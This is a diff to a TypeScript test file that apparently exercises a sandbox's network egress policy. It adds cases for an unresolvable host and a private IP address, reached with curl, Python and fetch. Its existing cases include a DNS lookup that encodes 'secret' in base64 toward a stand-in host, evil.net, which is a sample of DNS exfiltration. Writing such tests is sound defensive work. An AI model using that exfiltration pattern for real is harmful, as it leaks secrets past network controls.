@@ -24,6 +24,7 @@ import { openNames } from './world.testing.ts'
  */
 const carrier = process.argv[2]
 const host = 'data.example.org'
+const nowhere = 'nowhere.example.org'
 const { authority, certificate, key } = makeCertificate(host)
 const big = Buffer.alloc(20 * 1024 * 1024, 'countersign ')
 const wheel = await makeWheel()
@@ -55,7 +56,7 @@ const serve: RequestListener = (request, response) => {
   else response.end(JSON.stringify({ path, method: request.method }))
 }
 const names = await openNames(
-  (_, family) => (family === 4 ? ['93.184.216.34'] : []),
+  (name, family) => (family === 4 && name !== nowhere ? ['93.184.216.34'] : []),
   () => undefined,
 )
 const servers = [createHttp(serve).listen(80), createHttps({ cert: certificate, key }, serve).listen(443)]
@@ -141,6 +142,10 @@ await attempt(
   'bash',
   `python3 -m pip download --no-deps --disable-pip-version-check -q --retries 0 -i ${other}simple/ -d out tiny-feed`,
 )
+const toNowhere = [`https://${nowhere}:443`, 'https://10.0.0.5:443']
+await attempt('no address', 'python', `import requests\nrequests.get("https://${nowhere}/")`, toNowhere)
+await attempt('no address, curl', 'bash', `curl -sS https://${nowhere}/`, toNowhere)
+await attempt('a private address', 'javascript', `await fetch("https://10.0.0.5/")`, toNowhere)
 await attempt('writing', 'python', `import urllib.request as u\nu.urlopen("http://${host}/", data=b"x")`)
 await attempt('nothing granted', 'bash', `curl -s http://${host}/`, [])
 await attempt('name asked', 'python', `import socket\nsocket.gethostbyname("c2VjcmV0.evil.net")`)
